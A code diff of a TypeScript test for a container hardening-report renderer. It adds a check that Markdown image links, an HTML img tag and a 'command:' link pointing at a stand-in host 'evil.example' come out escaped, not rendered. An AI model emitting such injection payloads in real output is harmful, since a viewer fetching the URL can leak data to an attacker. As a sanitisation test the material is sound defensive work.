@@ -36,11 +36,16 @@ describe('check rendering', () => {
     assert.equal(renderMarkdownReport(report, 'app'), [
       '# Hardening report: app', '', 'Container `hdc-app-1` (docker) is running.', '',
       '| | guarantee | evidence |', '| --- | --- | --- |',
-      '| ✅ | firewall | OUTPUT policy IPv4 DROP |', '| ⚠️ | rootless engine | docker runs as root |', '| ❌ | sudo | sudo -n true SUCCEEDED \\| really |', '',
+      '| ✅ | firewall | OUTPUT policy IPv4 DROP |', '| ⚠️ | rootless engine | docker runs as root |', '| ❌ | sudo | sudo \\-n true SUCCEEDED \\| really |', '',
       '**Not hardened: see the ❌ rows.**'].join('\n'));
     assert.equal(summaryLine(clean, 'markdown'), '**Hardened: every check passed.**');
     assert.equal(summaryLine(passed, 'markdown'), '**Hardened: passed, with 1 warning** (the ⚠️ rows).');
     assert.equal(verdict(passed, 'log'), 'hardened: passed, with 1 warning');
+    // The container's words (su's stderr, a mount path) are shown, never rendered: no image the preview would fetch, no link, no HTML.
+    const hostile = renderMarkdownReport({ ...report, checks: [{ name: 'sudo', ok: true, evidence: 'fails (exit 1: ![x](https://evil.example/?d=1) <img src=https://evil.example/p> [ok](command:x)\n| row |)' }] }, 'app');
+    assert.ok(hostile.includes('\\!\\[x\\]\\(https\\:\\/\\/evil\\.example\\/\\?d\\=1\\)'));
+    assert.ok(hostile.includes('\\<img src\\=https\\:\\/\\/evil\\.example\\/p\\>'));
+    assert.ok(!/[^\\][[\]()<>]/.test(hostile.split('\n').find((l) => l.includes('evil'))!.replace(/^\| ✅ \| sudo \| /, ' ')));
     assert.equal(renderMarkdownReport({ ...stopped, container: null }, 'app'), '# Hardening report: app\n\nNo docker container for this folder.\n\n');
   });
 
